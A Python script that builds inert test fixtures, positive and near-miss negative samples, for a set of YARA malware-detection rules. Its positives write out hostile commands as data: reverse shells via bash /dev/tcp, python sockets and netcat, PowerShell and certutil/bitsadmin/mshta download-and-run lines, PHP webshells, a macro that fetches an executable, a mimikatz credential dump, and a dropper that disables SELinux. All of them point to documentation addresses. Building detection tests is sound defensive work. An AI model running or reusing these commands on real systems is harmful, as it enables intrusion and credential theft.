#!/usr/bin/env python3
"""Generate inert test fixtures for the vigil default YARA rules.

Usage: make-fixtures.py OUTDIR

For every rule in rules/*.yar this writes at least one positive fixture
(<RuleIdentifier>.pos, .pos2, ...) that the rule must match, and one or more
near-miss negatives (<RuleIdentifier>.neg, .neg2, ...) that look similar but
must NOT match. The expected matches are listed in tests/rules/expect.tsv.

All fixtures are synthetic and inert: the PE/ELF/OLE2 files are structurally
valid enough for the rules' header checks but contain no executable code, the
scripts only ever echo a harmless marker, and all IP addresses are from the
TEST-NET-1 documentation range (192.0.2.0/24) or *.invalid domains.

The EICAR test string is assembled at run time from two halves so that this
script itself is not detected by repository/AV scanners.

Standard library only.
"""

import base64
import os
import struct
import sys

C2 = "192.0.2.10"  # RFC 5737 TEST-NET-1, never routed


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def align(n, a):
    return (n + a - 1) // a * a


def utf16(s):
    return s.encode("utf-16-le")


def b64_ps(cmd):
    """base64 of a UTF-16LE PowerShell command, as used by -EncodedCommand."""
    return base64.b64encode(utf16(cmd)).decode("ascii")


def build_pe(sections, imports=None, import_section=".idata",
             header_extra=None, header_extra_at=0x3D0):
    """Build a minimal 32-bit PE image.

    sections:  list of (name, raw_bytes, virtual_size or None, characteristics)
    imports:   {dll_name: [function names]} -> a real import directory is
               built in section `import_section` (appended if not present)
    header_extra: bytes placed inside the header area (e.g. the UPX! header)
    """
    file_align, sect_align, headers_size = 0x200, 0x1000, 0x400
    sections = [list(s) for s in sections]
    if imports and not any(s[0] == import_section for s in sections):
        sections.append([import_section, b"", None, 0xC0000040])

    # first pass: assign RVAs (import data size is bounded, so reserve a page)
    rva = sect_align
    layout = []
    for name, raw, vsize, chars in sections:
        if name == import_section and imports:
            vsize = max(vsize or 0, sect_align)
        size = max(vsize or 0, len(raw), 1)
        layout.append(rva)
        rva += align(size, sect_align)
    size_of_image = rva

    import_dir = (0, 0)
    if imports:
        idx = [s[0] for s in sections].index(import_section)
        base = layout[idx]
        existing = sections[idx][1]
        off = align(len(existing), 16)
        blob, import_dir = build_import_blob(imports, base + off)
        assert off + len(blob) <= sect_align
        sections[idx][1] = existing.ljust(off, b"\0") + blob

    nsec = len(sections)
    e_lfanew = 0x80
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos += b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * (0x3C - len(dos) - 9)
    dos += struct.pack("<I", e_lfanew)
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos = dos.ljust(e_lfanew, b"\0")

    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, nsec, 0x5F000000,
                       0, 0, 0xE0, 0x0102)
    size_code = sum(align(len(s[1]), file_align) for s in sections if s[3] & 0x20)
    size_data = sum(align(len(s[1]), file_align) for s in sections if not s[3] & 0x20)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                      0x010B, 14, 0, size_code, size_data, 0,
                      0x1000, 0x1000, 0x2000,           # entry, base code, base data
                      0x400000, sect_align, file_align,
                      6, 0, 0, 0, 6, 0, 0,              # OS/image/subsystem versions
                      size_of_image, headers_size, 0,
                      3, 0x8140,                        # console, DLL characteristics
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    dirs = [(0, 0)] * 16
    dirs[1] = import_dir
    opt += b"".join(struct.pack("<II", *d) for d in dirs)
    assert len(opt) == 0xE0

    table = b""
    raw_ptr = headers_size
    bodies = b""
    for (name, raw, vsize, chars), va in zip(sections, layout):
        raw_size = align(len(raw), file_align) if raw else 0
        table += struct.pack("<8sIIIIIIHHI", name.encode("ascii"),
                             max(vsize or 0, len(raw), 1), va, raw_size,
                             raw_ptr if raw_size else 0, 0, 0, 0, 0, chars)
        bodies += raw.ljust(raw_size, b"\0")
        raw_ptr += raw_size

    hdr = bytearray((dos + coff + opt + table).ljust(headers_size, b"\0"))
    if header_extra:
        assert len(dos + coff + opt + table) <= header_extra_at
        hdr[header_extra_at:header_extra_at + len(header_extra)] = header_extra
    return bytes(hdr) + bodies


def build_import_blob(imports, base_rva):
    """Return (bytes, (rva, size)) of an import directory at base_rva."""
    dlls = list(imports.items())
    n = len(dlls)
    desc_size = 20 * (n + 1)
    # layout: descriptors | ILTs | IATs | hint/name entries | dll names
    thunk_sizes = [4 * (len(f) + 1) for _, f in dlls]
    ilt_off = desc_size
    iat_off = ilt_off + sum(thunk_sizes)
    names_off = iat_off + sum(thunk_sizes)
    hint_names = b""
    name_rvas = []
    for _, funcs in dlls:
        rvas = []
        for f in funcs:
            rvas.append(base_rva + names_off + len(hint_names))
            entry = struct.pack("<H", 0) + f.encode("ascii") + b"\0"
            hint_names += entry.ljust(align(len(entry), 2), b"\0")
        name_rvas.append(rvas)
    dll_off = names_off + len(hint_names)
    dll_names = b""
    dll_rvas = []
    for dll, _ in dlls:
        dll_rvas.append(base_rva + dll_off + len(dll_names))
        dll_names += dll.encode("ascii") + b"\0"

    desc = b""
    ilt = b""
    o_ilt, o_iat = ilt_off, iat_off
    for i, (dll, funcs) in enumerate(dlls):
        desc += struct.pack("<IIIII", base_rva + o_ilt, 0, 0, dll_rvas[i], base_rva + o_iat)
        thunks = b"".join(struct.pack("<I", r) for r in name_rvas[i]) + b"\0\0\0\0"
        ilt += thunks
        o_ilt += len(thunks)
        o_iat += len(thunks)
    desc += b"\0" * 20
    blob = desc + ilt + ilt + hint_names + dll_names
    return blob, (base_rva, desc_size)


def text_section(extra=b""):
    code = b"\x55\x89\xe5\x31\xc0\x5d\xc3" + b"\xcc" * 57  # push ebp; ... ret
    return (".text", code + extra, None, 0x60000020)


def rdata_section(strings):
    """.rdata with NUL-separated strings; str -> ASCII, ('w', str) -> UTF-16LE."""
    blob = b""
    for s in strings:
        if isinstance(s, tuple):
            blob += utf16(s[1]) + b"\0\0"
        else:
            blob += s.encode("ascii") + b"\0"
    return (".rdata", blob, None, 0x40000040)


def build_elf(payload, note_at_start=b""):
    """Minimal ELF64 x86-64 executable: header, one PT_LOAD, payload."""
    ehdr_size, phdr_size = 64, 56
    start = ehdr_size + phdr_size
    body = note_at_start + payload
    total = start + len(body)
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    ehdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400000 + start,
                               ehdr_size, 0, 0, ehdr_size, phdr_size, 1, 64, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, total, total, 0x1000)
    return ehdr + phdr + body


def build_ole2(vba_project=None, extra_streams=None):
    """Minimal CFB v3 (512-byte sectors) compound file.

    vba_project: bytes of the _VBA_PROJECT stream (padded to 4096 so it lives in
                 the regular FAT); when given, Macros/VBA storages and empty
                 "dir"/"ThisDocument" streams are created like in a Word file.
    extra_streams: {name: bytes} added under the root (e.g. "WordDocument").
    """
    SECT = 512
    FREE, EOC, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    streams = []  # (name, data) placed in regular sectors, each padded to >= 4096
    entries = []  # dicts

    def entry(name, typ, child=NOSTREAM, left=NOSTREAM, right=NOSTREAM, start=EOC, size=0):
        entries.append(dict(name=name, typ=typ, child=child, left=left,
                            right=right, start=start, size=size))
        return len(entries) - 1

    root = entry("Root Entry", 5)
    data_streams = dict(extra_streams or {})
    # the sector allocation: 0 = FAT, 1..k = directory, then stream sectors
    n_entries = 1 + len(data_streams) + (5 if vba_project is not None else 0)
    dir_sectors = align(n_entries, 4) // 4
    next_sector = 1 + dir_sectors
    fat = [FATSECT] + [0] * dir_sectors
    for i in range(dir_sectors):
        fat[1 + i] = 2 + i if i < dir_sectors - 1 else EOC
    blobs = b""

    def place(data):
        nonlocal next_sector, blobs
        data = data.ljust(max(4096, align(len(data), SECT)), b"\0")
        first = next_sector
        count = len(data) // SECT
        for i in range(count):
            fat.append(first + i + 1 if i < count - 1 else EOC)
        next_sector += count
        blobs += data
        return first, len(data)

    children = []
    for name, data in data_streams.items():
        st, sz = place(data)
        children.append(entry(name, 2, start=st, size=sz))
    if vba_project is not None:
        macros = entry("Macros", 1)
        vba = entry("VBA", 1)
        st, sz = place(vba_project)
        e_dir = entry("dir", 2)
        e_doc = entry("ThisDocument", 2)
        e_prj = entry("_VBA_PROJECT", 2, start=st, size=sz)
        entries[vba]["child"] = e_doc
        entries[e_doc]["left"] = e_dir
        entries[e_doc]["right"] = e_prj
        entries[macros]["child"] = vba
        children.append(macros)
    # chain root children through right siblings (all black nodes)
    if children:
        entries[root]["child"] = children[0]
        for a, b in zip(children, children[1:]):
            entries[a]["right"] = b

    assert len(fat) <= 128
    fat += [FREE] * (128 - len(fat))
    dir_bytes = b""
    for e in entries:
        nm = utf16(e["name"]) + b"\0\0"
        dir_bytes += struct.pack("<64sHBBIII16sIQQIQ", nm, len(nm), e["typ"], 1,
                                 e["left"], e["right"], e["child"], b"\0" * 16,
                                 0, 0, 0, e["start"], e["size"])
    empty = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, NOSTREAM, NOSTREAM,
                        NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0)
    while len(dir_bytes) < dir_sectors * SECT:
        dir_bytes += empty

    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, EOC, 0, EOC, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", FREE) * 108
    assert len(header) == SECT
    return header + b"".join(struct.pack("<I", x) for x in fat) + dir_bytes + blobs


def vba_project_stream(identifiers):
    """Imitation of a _VBA_PROJECT stream: header + length-prefixed identifier
    table (names stay plain ASCII in real files, which the OLE2 rule relies on)."""
    out = struct.pack("<HHB", 0x61CC, 0xFFFF, 0) + b"\0" * 27
    for ident in identifiers:
        b = ident.encode("ascii")
        out += struct.pack("<BB", len(b), 0) + b
    return out


# --------------------------------------------------------------------------
# fixtures
# --------------------------------------------------------------------------

def fixtures():
    f = {}

    # ---- EICAR -------------------------------------------------------------
    eicar = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode("ascii")
    assert len(eicar) == 68
    f["Vigil_Test_EICAR.pos"] = eicar
    f["Vigil_Test_EICAR.pos2"] = eicar + b"\r\n \t\r\n"
    f["Vigil_Test_EICAR.neg"] = b"echo " + eicar + b" > eicar.com\n"          # not at offset 0
    f["Vigil_Test_EICAR.neg2"] = eicar + b"\nthis line is not whitespace\n"    # trailing junk
    f["Vigil_Test_EICAR.neg3"] = eicar + b" " * 100                          # > 128 bytes

    # ---- process injection / hollowing ------------------------------------
    f["Vigil_PE_ProcessInjection.pos"] = build_pe(
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["OpenProcess", "VirtualAllocEx", "WriteProcessMemory",
                                  "CreateRemoteThread", "CloseHandle", "ExitProcess"]})
    f["Vigil_PE_ProcessInjection.pos2"] = build_pe(   # APC variant, ntdll names
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["OpenProcess", "OpenThread", "CloseHandle"],
                 "ntdll.dll": ["NtAllocateVirtualMemory", "NtWriteVirtualMemory",
                               "NtQueueApcThread"]})
    # near miss: local allocation + local thread only (what every program does)
    f["Vigil_PE_ProcessInjection.neg"] = build_pe(
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["VirtualAlloc", "VirtualProtect", "VirtualFree",
                                  "CreateThread", "ReadProcessMemory", "WriteFile",
                                  "ExitProcess"]})
    # near miss: the API names in a text file (header/doc), not a PE
    f["Vigil_PE_ProcessInjection.neg2"] = (
        b"/* winapi notes: VirtualAllocEx, WriteProcessMemory and CreateRemoteThread\n"
        b"   are documented in processthreadsapi.h */\n")
    f["Vigil_PE_ProcessHollowing.pos"] = build_pe(
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["CreateProcessA", "GetThreadContext", "SetThreadContext",
                                  "WriteProcessMemory", "ResumeThread", "VirtualAlloc"],
                 "ntdll.dll": ["NtUnmapViewOfSection"]})
    # typical RunPE also allocates remotely -> both rules
    f["Vigil_PE_ProcessHollowing.pos2"] = build_pe(
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["CreateProcessW", "GetThreadContext", "Wow64SetThreadContext",
                                  "VirtualAllocEx", "WriteProcessMemory", "ResumeThread"],
                 "ntdll.dll": ["ZwUnmapViewOfSection"]})
    # near miss: a debugger-like import set without unmapping / context change
    f["Vigil_PE_ProcessHollowing.neg"] = build_pe(
        [text_section(), rdata_section(["vigil-fixture"])],
        imports={"KERNEL32.dll": ["CreateProcessA", "GetThreadContext", "ResumeThread",
                                  "WriteProcessMemory", "WaitForDebugEvent",
                                  "ContinueDebugEvent"]})

    # ---- UPX ---------------------------------------------------------------
    upx_hdr = b"3.96\0UPX!\x0d\x09\x08\x07" + bytes(range(16, 40))
    upx_imports = {"KERNEL32.DLL": ["LoadLibraryA", "ExitProcess", "GetProcAddress",
                                    "VirtualProtect"]}
    f["Vigil_Packer_UPX.pos"] = build_pe(
        [("UPX0", b"", 0x8000, 0xE0000080),
         ("UPX1", bytes((i * 7 + 3) & 0xFF for i in range(0x600)), None, 0xE0000040),
         (".rsrc", b"", None, 0xC0000040)],
        imports=upx_imports, import_section=".rsrc", header_extra=upx_hdr)
    # near miss: ordinary PE that merely mentions UPX (e.g. a packer front-end)
    f["Vigil_Packer_UPX.neg"] = build_pe(
        [text_section(), rdata_section(["UPX0", "UPX1", "UPX!", "Pack with UPX?"])],
        imports={"KERNEL32.dll": ["CreateProcessA", "ExitProcess"]})
    upx_elf_linfo = b"\0\0\0\0UPX!" + bytes(range(1, 21))
    stub = b"\x90" * 64 + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\0"
    stub += b"$Id: UPX 4.02 Copyright (C) 1996-2023 the UPX Team. All Rights Reserved. $\n\0"
    f["Vigil_Packer_UPX_ELF.pos"] = build_elf(stub + bytes(range(256)) * 4 + b"UPX!" + b"\0" * 28,
                                             note_at_start=upx_elf_linfo)
    # near miss: the upx tool itself: mentions UPX! deep inside, not packed
    f["Vigil_Packer_UPX_ELF.neg"] = build_elf(b"\0" * 0x800 + b"UPX!\0" + stub)

    # ---- PowerShell --------------------------------------------------------
    enc = b64_ps("Write-Output 'vigil fixture: inert encoded command'")
    f["Vigil_PowerShell_EncodedCommand.pos"] = (
        "@echo off\r\nstart /b powershell.exe -NoP -NonI -W Hidden -Enc %s\r\n" % enc).encode()
    f["Vigil_PowerShell_EncodedCommand.pos2"] = utf16(   # UTF-16LE, like task XML / LNK
        "<Command>PowerShell.exe -nop -w hidden -EncodedCommand %s</Command>" % enc)
    f["Vigil_PowerShell_EncodedCommand.pos3"] = ("pwsh -e %s\n" % enc).encode()
    f["Vigil_PowerShell_EncodedCommand.neg"] = (
        b"REM run the maintenance script\r\n"
        b"powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\Scripts\\cleanup.ps1\r\n"
        b"REM see 'powershell -EncodedCommand <Base64String>' in the docs\r\n")
    f["Vigil_PowerShell_Base64IEX.pos"] = (
        "$d = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('%s'))\r\n"
        "IEX $d\r\n" % enc).encode()
    f["Vigil_PowerShell_Base64IEX.pos2"] = (
        "$c=[Text.Encoding]::UTF8.GetString([Convert]::frombase64string('%s'));"
        "$c | Invoke-Expression\r\n" % base64.b64encode(b"Write-Output 'vigil fixture'").decode()).encode()
    f["Vigil_PowerShell_Base64IEX.neg"] = (
        b"# install a certificate shipped as base64\r\n"
        b"$bytes = [System.Convert]::FromBase64String($certB64)\r\n"
        b"[IO.File]::WriteAllBytes(\"$env:TEMP\\corp.cer\", $bytes)\r\n"
        b"Invoke-Command -ComputerName $pc -ScriptBlock { certutil -addstore Root $using:path }\r\n"
        b"$siexample = Get-Item $path   # variable name containing iex as a substring\r\n")
    f["Vigil_PowerShell_DownloadCradle.pos"] = (
        "IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\r\n" % C2).encode()
    f["Vigil_PowerShell_DownloadCradle.pos2"] = (
        "irm https://%s/s.ps1 | iex\r\n" % C2).encode()
    f["Vigil_PowerShell_DownloadCradle.pos3"] = (
        "powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring("
        "'https://cdn.example.invalid/a'))\"\r\n").encode()
    # near miss: vendor install instructions (https, domain, interactive)
    f["Vigil_PowerShell_DownloadCradle.neg2"] = (
        b"```powershell\nSet-ExecutionPolicy Unrestricted -Force\n"
        b"iex ((New-Object System.Net.WebClient).DownloadString('https://boxstarter.example.invalid/bootstrapper.ps1'))\n"
        b"```\n")
    f["Vigil_PowerShell_DownloadCradle.neg"] = (
        "$wc = New-Object System.Net.WebClient\r\n"
        "$wc.DownloadFile('https://downloads.example.invalid/setup.msi', \"$env:TEMP\\setup.msi\")\r\n"
        "Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\setup.msi\", '/qn' -Wait\r\n").encode()

    # ---- Office macros -----------------------------------------------------
    f["Vigil_Macro_AutoExecDangerous.pos"] = (
        'Attribute VB_Name = "ThisDocument"\r\n'
        'Attribute VB_Base = "1Normal.ThisDocument"\r\n'
        "Private Sub Document_Open()\r\n"
        "    Dim sh As Object\r\n"
        '    Set sh = CreateObject("WScript.Shell")\r\n'
        '    sh.Run "cmd.exe /c echo vigil-fixture", 0, False\r\n'
        "End Sub\r\n").encode()
    f["Vigil_Macro_AutoExecDangerous.pos2"] = (
        'Attribute VB_Name = "Module1"\r\n'
        'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, _\r\n'
        "    ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n"
        "Sub AutoOpen()\r\n"
        '    URLDownloadToFileA 0, "http://%s/x.exe", Environ("TEMP") & "\\x.exe", 0, 0\r\n'
        "End Sub\r\n" % C2).encode()
    # near miss: auto-exec that only formats the document
    f["Vigil_Macro_AutoExecDangerous.neg"] = (
        'Attribute VB_Name = "ThisDocument"\r\n'
        "Private Sub Document_Open()\r\n"
        '    ActiveDocument.Content.Font.Name = "Arial"\r\n'
        "    ActiveWindow.View.Zoom.Percentage = 120\r\n"
        "End Sub\r\n").encode()
    # near miss: Shell call in a button handler, no auto-exec
    f["Vigil_Macro_AutoExecDangerous.neg2"] = (
        'Attribute VB_Name = "Module1"\r\n'
        "Sub RunBackup_Click()\r\n"
        '    Shell "C:\\Program Files\\Backup\\backup.exe /now", vbNormalFocus\r\n'
        "End Sub\r\n").encode()
    f["Vigil_Macro_OLE2AutoExec.pos"] = build_ole2(
        vba_project=vba_project_stream(["Document_Open", "sh", "Run", "Shell",
                                        "URLDownloadToFileA", "urlmon", "vigil_fixture"]),
        extra_streams={"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60})
    f["Vigil_Macro_OLE2AutoExec.neg"] = build_ole2(       # macro, but harmless
        vba_project=vba_project_stream(["Document_Open", "FormatHeadings", "Font",
                                        "Name", "Zoom", "Percentage"]),
        extra_streams={"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60})
    f["Vigil_Macro_OLE2AutoExec.neg2"] = build_ole2(      # no VBA project, text talks about macros
        extra_streams={"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60 +
                       b"Training: never enable macros. Malicious AutoOpen macros call Shell "
                       b"or URLDownloadToFile to fetch malware.\r"})

    # ---- PHP webshells -----------------------------------------------------
    inner = base64.b64encode(b'echo "vigil fixture";').decode()
    f["Vigil_Webshell_PHP_EvalEncoded.pos"] = ("<?php @eval(base64_decode('%s')); ?>\n" % inner).encode()
    f["Vigil_Webshell_PHP_EvalEncoded.pos2"] = (
        "<?php\n$x = 'ZWNobyAidmlnaWwiOw==';\neval (gzinflate( base64_decode($x)));\n").encode()
    f["Vigil_Webshell_PHP_EvalEncoded.neg"] = (
        b"<?php\n// settings are stored base64-encoded in the DB\n"
        b"$cfg = json_decode(base64_decode($row['settings']), true);\n"
        b"echo htmlspecialchars($cfg['title']);\n"
        b"$sum = eval('return 2 + 2;');\n")
    f["Vigil_Webshell_PHP_RequestExec.pos"] = (
        b"<?php if (isset($_REQUEST['cmd'])) { echo '<pre>'; system($_REQUEST['cmd']); } ?>\n")
    f["Vigil_Webshell_PHP_RequestExec.pos2"] = b"<?php @assert(@$_POST['x']); ?>\n"
    f["Vigil_Webshell_PHP_RequestExec.pos3"] = (
        b"<?php preg_replace(\"/.*/e\", $_POST['c'], ''); ?>\n")
    f["Vigil_Webshell_PHP_RequestExec.pos4"] = b"<?php $_GET['f']($_GET['a']); ?>\n"
    f["Vigil_Webshell_PHP_RequestExec.neg"] = (
        b"<?php\n$name = htmlspecialchars($_POST['name'] ?? '');\n"
        b"echo \"Hello $name\";\nsystem('uptime');\n"
        b"$q = preg_replace('/\\s+/i', ' ', $_GET['q']);\n"
        b"$id = intval($_REQUEST['id']);\n")

    # ---- ELF miner ----------------------------------------------------------
    miner_strings = (b"\0XMRig/6.21.0\0stratum+tcp://pool.example.invalid:3333\0"
                     b"--donate-level=N donate level, default 1%\0rx/0\0cn/r\0")
    f["Vigil_ELF_CryptoMiner.pos"] = build_elf(b"\0" * 64 + miner_strings)
    # near miss: an ELF (crypto library) mentioning RandomX once
    f["Vigil_ELF_CryptoMiner.neg"] = build_elf(
        b"\0" * 64 + b"\0RandomX hash benchmark\0sha256\0blake2b\0argon2id\0")
    # near miss: miner config, but not an ELF binary
    f["Vigil_ELF_CryptoMiner.neg2"] = (
        b'{"autosave": true, "donate-level": 1, "pools": [{"url": '
        b'"stratum+tcp://pool.example.invalid:3333", "user": "xmrig-test"}]}\n')

    # ---- ransom note --------------------------------------------------------
    note = ("!!! ATTENTION !!!\r\n\r\nAll your files have been encrypted by VIGIL-FIXTURE.\r\n"
            "To decrypt your files you need a private key that only we have.\r\n"
            "Pay 0.1 bitcoin to the wallet below and contact us via Tor Browser:\r\n"
            "http://vigilfixtureexampleonionaddressxxxxxxxxxxxxxxx.onion/\r\n"
            "Do not rename encrypted files.\r\n")
    f["Vigil_Ransom_Note.pos"] = note.encode()
    f["Vigil_Ransom_Note.pos2"] = b"\xff\xfe" + utf16("<html><body><h1>" + note + "</h1></body></html>")
    f["Vigil_Ransom_Note.neg"] = (
        b"Backup quick start\n==================\n\n"
        b"Use 'restore' to restore your files from a snapshot. Snapshots are encrypted;\n"
        b"to read them you need the repository password, from which the private key is derived.\n"
        b"You can also decrypt a single snapshot with 'backup cat'.\n"
        b"Donations are welcome (we accept bitcoin).\n")

    # ---- reverse shells -----------------------------------------------------
    f["Vigil_Shell_ReverseShell.pos"] = (
        "#!/bin/bash\n* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'\n" % C2).encode()
    f["Vigil_Shell_ReverseShell.pos2"] = (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        "s.connect((\"%s\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
        "os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'\n" % C2).encode()
    f["Vigil_Shell_ReverseShell.pos3"] = (
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s 4444 >/tmp/f\n" % C2).encode()
    f["Vigil_Shell_ReverseShell.pos4"] = ("nc -e /bin/sh %s 4444\n" % C2).encode()
    # near miss: legitimate bash /dev/tcp HTTP request and a netcat port check
    f["Vigil_Shell_ReverseShell.neg"] = (
        b"#!/bin/bash\n# health check without curl\n"
        b"exec 3<>/dev/tcp/localhost/8080\n"
        b"printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n"
        b"nc -z -w 2 localhost 5432 && echo db up\n")

    # ---- LOLBins ------------------------------------------------------------
    f["Vigil_LOLBin_DownloadCradle.pos"] = (
        "@echo off\r\ncertutil.exe -urlcache -split -f http://%s/p.exe %%TEMP%%\\p.exe\r\n"
        "start %%TEMP%%\\p.exe\r\n" % C2).encode()
    f["Vigil_LOLBin_DownloadCradle.pos2"] = utf16(
        "bitsadmin /transfer updjob /download /priority high https://%s/u.exe C:\\Users\\Public\\u.exe" % C2)
    f["Vigil_LOLBin_DownloadCradle.neg"] = (
        b"@echo off\r\ncertutil -hashfile setup.exe SHA256\r\n"
        b"certutil -urlcache * delete\r\nbitsadmin /list /allusers\r\n")
    f["Vigil_LOLBin_ScriptletExec.pos"] = (
        "regsvr32 /s /n /u /i:http://%s/file.sct scrobj.dll\r\n" % C2).encode()
    f["Vigil_LOLBin_ScriptletExec.pos2"] = ("mshta http://%s/a.hta\r\n" % C2).encode()
    f["Vigil_LOLBin_ScriptletExec.pos3"] = (
        b'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)\r\n')
    f["Vigil_LOLBin_ScriptletExec.neg"] = (
        b'mshta.exe "C:\\Program Files\\Vendor\\help\\index.hta"\r\n'
        b"regsvr32 /s C:\\Windows\\System32\\vbscript.dll\r\n"
        b"rundll32.exe shell32.dll,Control_RunDLL desk.cpl\r\n")

    # ---- credential theft ---------------------------------------------------
    f["Vigil_Tool_Mimikatz.pos"] = (
        b'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\\Users\\Public\\o.txt\r\n')
    f["Vigil_Tool_Mimikatz.pos2"] = build_pe(
        [text_section(), rdata_section([("w", "mimikatz 2.2.0 (x64)"),
                                        ("w", "gentilkiwi (Benjamin DELPY)"),
                                        ("w", "sekurlsa"), ("w", "logonpasswords")])],
        imports={"KERNEL32.dll": ["OpenProcess", "ReadProcessMemory"]})
    f["Vigil_Tool_Mimikatz.neg"] = (
        b"Incident report: the EDR blocked a file named mimikatz.exe in the Downloads\n"
        b"folder. No credential dumping was observed.\n")
    stealer = [("w", "\\Google\\Chrome\\User Data\\Default\\"), ("w", "\\Microsoft\\Edge\\User Data\\"),
               ("w", "\\Mozilla\\Firefox\\Profiles\\"), ("w", "Login Data"), "logins.json",
               "key4.db", "encrypted_key", ("w", "wallet.dat")]
    f["Vigil_Stealer_BrowserCredentials.pos"] = build_pe(
        [text_section(), rdata_section(stealer)],
        imports={"KERNEL32.dll": ["CopyFileW"], "CRYPT32.dll": ["CryptUnprotectData"]})
    # near miss: one browser accessing its own profile (e.g. an updater)
    f["Vigil_Stealer_BrowserCredentials.neg"] = build_pe(
        [text_section(), rdata_section([("w", "\\Google\\Chrome\\User Data\\"), ("w", "Login Data"),
                                        ("w", "Local State"), "encrypted_key"])],
        imports={"KERNEL32.dll": ["CopyFileW"]})
    # near miss: forensic notes listing the same paths (not a PE)
    f["Vigil_Stealer_BrowserCredentials.neg2"] = (
        b"Triage checklist: copy %LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data,\n"
        b"%APPDATA%\\Mozilla\\Firefox\\Profiles\\*\\logins.json and key4.db for analysis.\n"
        b"Also check \\Microsoft\\Edge\\User Data and any wallet.dat.\n")

    # ---- script droppers ------------------------------------------------------
    f["Vigil_Script_ActiveXDropper.pos"] = (
        'var sh = new ActiveXObject("WScript.Shell");\r\n'
        'var x = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
        'x.open("GET", "http://%s/p.txt", false); x.send();\r\n'
        'sh.Run("cmd /c echo vigil-fixture", 0, false);\r\n' % C2).encode()
    f["Vigil_Script_ActiveXDropper.pos2"] = (
        '<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize">\r\n'
        '<script language="VBScript">\r\n'
        'Set s = CreateObject("WScript.Shell")\r\n'
        's.Run "powershell -nop -c Write-Output vigil-fixture", 0\r\n'
        "self.close\r\n</script></head></html>\r\n").encode()
    f["Vigil_Script_ActiveXDropper.neg"] = (
        b'var fso = new ActiveXObject("Scripting.FileSystemObject");\r\n'
        b'var sh = new ActiveXObject("WScript.Shell");\r\n'
        b'WScript.Echo(sh.ExpandEnvironmentStrings("%TEMP%"));\r\n'
        b'WScript.Echo(fso.GetFolder(".").Files.Count);\r\n')
    f["Vigil_Shell_SecurityDisableDropper.pos"] = (
        "#!/bin/sh\nsetenforce 0 2>/dev/null\n"
        "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config\n"
        "ufw disable\nunset HISTFILE\n"
        "curl -fsSL http://%s/i.sh | sh\n" % C2).encode()
    f["Vigil_Shell_SecurityDisableDropper.pos2"] = (
        "#!/bin/bash\nsystemctl stop apparmor\n"
        "wget -q http://%s/k -O /tmp/k; chmod +x /tmp/k; /tmp/k\n" % C2).encode()
    # near miss: a normal vendor install one-liner
    f["Vigil_Shell_SecurityDisableDropper.neg"] = (
        b"#!/bin/sh\n# install the agent\n"
        b"curl -fsSL https://get.example.invalid/install.sh | sh\n"
        b"systemctl enable --now example-agent\n")
    # near miss: SELinux troubleshooting notes, no download
    f["Vigil_Shell_SecurityDisableDropper.neg2"] = (
        b"If the service fails to start, check the audit log; as a temporary test run\n"
        b"'setenforce 0' and retry, then restore enforcing mode with 'setenforce 1'.\n")

    # ---- generic clean files ----------------------------------------------------
    f["clean-text.neg"] = b"Hello, this is an ordinary text file.\n"
